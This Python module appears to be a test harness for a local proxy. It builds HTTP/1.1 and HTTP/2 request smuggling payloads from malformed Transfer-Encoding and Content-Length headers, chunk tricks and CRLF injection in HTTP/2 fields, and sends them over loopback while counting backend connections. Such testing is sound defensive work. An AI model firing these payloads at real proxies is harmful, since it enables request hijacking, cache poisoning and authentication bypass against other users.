"""Requests that a proxy and a server behind it may understand differently, and connections to send them by.

`SMUGGLED` is a request that nobody has sent: bytes of a body, which swallow the head of whatever comes behind them.
"""

import asyncio
import ssl
from collections.abc import AsyncGenerator, Sequence
from contextlib import asynccontextmanager, suppress

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import ConnectionTerminated, DataReceived, Event, ResponseReceived, StreamEnded, StreamReset
from h2.exceptions import ProtocolError

SMUGGLED = "/smuggled"

_NO_CODING = ("TE, underscore", "TE, folded behind a field")
"""These are other fields, so that what follows four bytes of a body is the attacker's own next request."""

type Fields = Sequence[tuple[str, str]]


def attacks(host: str, key: str) -> dict[str, bytes]:
    """Of HTTP/1.1, by the client that has this session key."""
    own = f"Host: {host}\r\nX-Session-API-Key: {key}\r\n"
    swallowing = f"GET {SMUGGLED} HTTP/1.1\r\n{own}X-Swallow: "
    chunk = f"{len(swallowing) + 4:x}\r\n{swallowing}\r\n\r\n\r\n0\r\n\r\n"
    ended = f"0\r\n\r\n{swallowing}"

    def post(fields: str, body: str, version: str = "1.1", line: str = "POST /own") -> bytes:
        return f"{line} HTTP/{version}\r\n{own}{fields}\r\n{body}".encode("latin-1")

    both: dict[str, bytes] = {}
    for name, coding in {
        "TE": "Transfer-Encoding: chunked",
        "TE, space before the colon": "Transfer-Encoding : chunked",
        "TE, tab": "Transfer-Encoding:\tchunked",
        "TE, no space": "Transfer-Encoding:chunked",
        "TE, vertical tab": "Transfer-Encoding: \x0bchunked",
        "TE, form feed at the end": "Transfer-Encoding: chunked\x0c",
        "TE, NUL": "Transfer-Encoding: chunked\x00",
        "TE, quoted": 'Transfer-Encoding: "chunked"',
        "TE, capitals": "TRANSFER-ENCODING: CHUNKED",
        "TE, underscore": "Transfer_Encoding: chunked",
        "TE, other coding": "Transfer-Encoding: xchunked",
        "TE, identity": "Transfer-Encoding: identity",
        "TE, list": "Transfer-Encoding: identity, chunked",
        "TE, list, chunked first": "Transfer-Encoding: chunked, identity",
        "TE, empty member": "Transfer-Encoding: , chunked",
        "TE twice": "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
        "TE and other TE": "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
        "other TE and TE": "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
        "TE, folded": "Transfer-Encoding:\r\n chunked",
        "TE, folded behind a field": "X: y\r\n Transfer-Encoding: chunked",
        "TE, bare LF before": "X: y\nTransfer-Encoding: chunked",
        "TE, bare CR before": "X: y\rTransfer-Encoding: chunked",
        "TE, named by Connection": "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
        "TE, no-break space": "Transfer-Encoding:\xa0chunked",
    }.items():
        both[f"{name}: length counts"] = post(f"Content-Length: {len(ended)}\r\n{coding}\r\n", ended)
        if name not in _NO_CODING:
            both[f"{name}: chunks count"] = post(f"{coding}\r\nContent-Length: 4\r\n", chunk)
    length = len(swallowing)
    return both | {
        "two lengths": post(f"Content-Length: 0\r\nContent-Length: {length}\r\n", swallowing),
        "two lengths, the other way": post(f"Content-Length: {length}\r\nContent-Length: 0\r\n", swallowing),
        "list of lengths": post(f"Content-Length: 0, {length}\r\n", swallowing),
        "length with a sign": post(f"Content-Length: +{length}\r\n", swallowing),
        "hexadecimal length": post(f"Content-Length: 0x{length:x}\r\n", swallowing),
        "length with zeros": post(f"Content-Length: 000{length}\r\n", swallowing),
        "empty length": post("Content-Length:\r\n", swallowing),
        "huge length": post("Content-Length: 18446744073709551616\r\n", swallowing),
        "length, space before the colon": post(f"Content-Length : {length}\r\n", swallowing),
        "length, underscore": post(f"Content_Length: {length}\r\n", swallowing),
        "length, folded": post(f"Content-Length:\r\n {length}\r\n", swallowing),
        "length, named by Connection": post(f"Connection: Content-Length\r\nContent-Length: {length}\r\n", swallowing),
        "GET with a body": post(f"Content-Length: {length}\r\n", swallowing, line="GET /own"),
        "HEAD with a body": post(f"Content-Length: {length}\r\n", swallowing, line="HEAD /own"),
        "OPTIONS with a body": post(f"Content-Length: {length}\r\n", swallowing, line="OPTIONS *"),
        "body of a refused request": post(f"Content-Length: {length}\r\n", swallowing).replace(
            key.encode(), b"no-key", 1
        ),
        "body of a call": post(f"Content-Length: {length}\r\n", swallowing, line="POST /start"),
        "body of a handshake": post(
            f"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
            f"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nContent-Length: {length}\r\n",
            swallowing,
            line="GET /sockets/events",
        ),
        "handshake of another version": post(
            "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\n",
            swallowing,
            line="GET /sockets/events",
        ).replace(f"X-Session-API-Key: {key}\r\n".encode(), b"", 1),
        "h2c": post(
            "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n"
            f"Content-Length: {length}\r\n",
            swallowing,
        ),
        "expected continue": post(f"Expect: 100-continue\r\nContent-Length: {length}\r\n", swallowing),
        "something else expected": post(f"Expect: y 100-continue\r\nContent-Length: {length}\r\n", swallowing),
        "HTTP/1.0 with chunks": post("Transfer-Encoding: chunked\r\nConnection: keep-alive\r\n", chunk, "1.0"),
        "HTTP/1.0 with both": post(
            f"Transfer-Encoding: chunked\r\nContent-Length: {len(ended)}\r\nConnection: keep-alive\r\n", ended, "1.0"
        ),
        "chunk size that overflows": post("Transfer-Encoding: chunked\r\n", f"10000000000000000\r\n\r\n{ended}"),
        "negative chunk size": post("Transfer-Encoding: chunked\r\n", f"-1\r\n{ended}"),
        "chunk size with 0x": post("Transfer-Encoding: chunked\r\n", f"0x0\r\n\r\n{swallowing}"),
        "chunk size with an underscore": post("Transfer-Encoding: chunked\r\n", f"0_1\r\nx\r\n{ended}"),
        "chunk longer than its size": post("Transfer-Encoding: chunked\r\n", f"1\r\nxy{ended}"),
        "bare LF after a chunk size": post("Transfer-Encoding: chunked\r\n", f"2\nxx\r\n{ended}"),
        "bare LF in an extension": post("Transfer-Encoding: chunked\r\n", f"2;\nxx\r\n{chunk}"),
        "bare CR in an extension": post("Transfer-Encoding: chunked\r\n", f"2;\rxx\r\n{chunk}"),
        "bare CR as the end of chunks": post("Transfer-Encoding: chunked\r\n", f"0\r\n\r{swallowing}"),
        "bare LFs as the end of chunks": post("Transfer-Encoding: chunked\r\n", f"0\n\n{swallowing}"),
        "request in a trailer": post("Transfer-Encoding: chunked\r\n", f"0\r\nX: y\r\n {swallowing}\r\n\r\n"),
        "length in a trailer": post(
            "Transfer-Encoding: chunked\r\nTrailer: Content-Length\r\n",
            f"0\r\nContent-Length: {length}\r\n\r\n{swallowing}",
        ),
        "empty field name": post(f": x\r\nContent-Length: {length}\r\n", swallowing),
        "bare LFs": post(f"Content-Length: {length}\r\n", "").replace(b"\r\n", b"\n") + swallowing.encode(),
        "NUL in a name": post(f"X\x00: y\r\nContent-Length: {length}\r\n", swallowing),
        "request in the target": post("", "", line=f"GET /own HTTP/1.1\r\n{own}\r\nGET {SMUGGLED}").replace(
            b"HTTP/1.1\r\n", b"HTTP/1.1\n", 1
        )[:-4],
        "fragment in the target": post(f"Content-Length: {length}\r\n", swallowing, line="POST /own#/x"),
    }


def http2_attacks(host: str, key: str) -> dict[str, tuple[Fields, bytes]]:
    """Of HTTP/2: fields and body of a request."""
    swallowing = f"GET {SMUGGLED} HTTP/1.1\r\nHost: {host}\r\nX-Session-API-Key: {key}\r\nX-Swallow: "

    def fields(*more: tuple[str, str], path: str = "/own", method: str = "POST") -> Fields:
        usual = ((":method", method), (":scheme", "https"), (":authority", host), (":path", path))
        return (*usual, ("x-session-api-key", key), *more)

    body = swallowing.encode()
    ended = b"0\r\n\r\n" + body
    inner = f"x\r\n\r\n{swallowing}"
    return {
        "length 0 with a body": (fields(("content-length", "0")), body),
        "length shorter than the body": (fields(("content-length", "4")), body),
        "length longer than the body": (fields(("content-length", str(len(body) + 100))), body),
        "two lengths": (fields(("content-length", "0"), ("content-length", str(len(body)))), body),
        "TE": (fields(("transfer-encoding", "chunked")), ended),
        "TE in capitals": (fields(("Transfer-Encoding", "chunked")), ended),
        "TE behind CRLF in a value": (fields(("x", "y\r\ntransfer-encoding: chunked")), ended),
        "request behind CRLF in a value": (fields(("x", inner)), b""),
        "request behind LF in a value": (fields(("x", inner.replace("\r\n", "\n"))), b""),
        "request behind CRLF in a name": (fields((f"x: y\r\n\r\n{swallowing}", "z")), b""),
        "colon in a name": (fields(("transfer-encoding: chunked\r\nx", "y")), ended),
        "request in the path": (fields(path=f"/own HTTP/1.1\r\nHost: {host}\r\n\r\n{swallowing}"), b""),
        "space in the path": (fields(path=f"{SMUGGLED} HTTP/1.1\r\nX: y"), b""),
        "request in the method": (fields(method=f"GET {SMUGGLED} HTTP/1.1\r\nHost: {host}\r\n\r\nGET"), b""),
        "connection named": (fields(("connection", "content-length"), ("content-length", str(len(body)))), body),
        "upgrade": (fields(("connection", "upgrade"), ("upgrade", "websocket"), method="GET"), body),
        "two hosts": (fields(("host", "other.example")), body),
        "NUL in a value": (fields(("x", "\x00")), body),
    }


class Http2:
    """A connection of HTTP/2 whose client checks nothing of what it sends."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader, self._writer = reader, writer
        self._h2 = H2Connection(H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False))
        self._h2.initiate_connection()

    def send(self, fields: Fields, body: bytes = b"", *, end: bool = True) -> None:
        """One request; without `end`, more may follow."""
        stream = self._h2.get_next_available_stream_id()
        self._h2.send_headers(stream, fields, end_stream=end and not body)
        if body:
            self._h2.send_data(stream, body, end_stream=end)
        self._writer.write(self._h2.data_to_send())

    async def answer(self, seconds: float, until: type[Event] = StreamEnded) -> tuple[str, bytes]:
        """Status and body, as far as they come until this event, or within these seconds."""
        status, body = "", b""
        with suppress(TimeoutError, ConnectionError, ProtocolError):
            async with asyncio.timeout(seconds):
                while data := await self._reader.read(65536):
                    for event in self._h2.receive_data(data):
                        if isinstance(event, ResponseReceived):
                            status = dict(event.headers)[b":status"].decode()
                        elif isinstance(event, DataReceived):
                            body += event.data
                        if isinstance(event, (until, StreamReset, ConnectionTerminated)):
                            return status, body
                    self._writer.write(self._h2.data_to_send())
        return status, body


@asynccontextmanager
async def raw(
    port: int, trusted: ssl.SSLContext, protocol: str
) -> AsyncGenerator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """A connection by TLS to this port of loopback, for this protocol (ALPN)."""
    trusted.set_alpn_protocols([protocol])
    reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=trusted)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


class Tap:
    """Counts the connections that a proxy opens to a server."""

    def __init__(self, behind: int) -> None:
        self._behind = behind
        self.port = 0
        self.connections = 0

    @asynccontextmanager
    async def open(self) -> AsyncGenerator["Tap"]:
        """On a port of loopback."""
        server = await asyncio.start_server(self._relay, "127.0.0.1", 0)
        self.port = server.sockets[0].getsockname()[1]
        try:
            yield self
        finally:
            server.close()

    async def _relay(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        inner_reader, inner_writer = await asyncio.open_connection("127.0.0.1", self._behind)
        with suppress(ConnectionError):
            async with asyncio.TaskGroup() as group:
                group.create_task(_copy(reader, inner_writer))
                group.create_task(_copy(inner_reader, writer))


async def _copy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with suppress(ConnectionError):
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    writer.close()
